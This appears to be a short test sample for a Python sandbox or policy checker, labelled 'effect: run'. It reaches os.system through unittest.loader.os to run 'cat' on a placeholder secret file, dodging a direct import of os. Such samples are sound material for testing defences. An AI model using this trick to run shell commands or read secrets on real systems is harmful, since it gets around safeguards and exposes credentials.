# unittest's loader imports by a dotted name; loading a test calls what the name leads to.
# effect: run
import unittest
import unittest.loader
unittest.loader.os.system("cat @SECRET@")
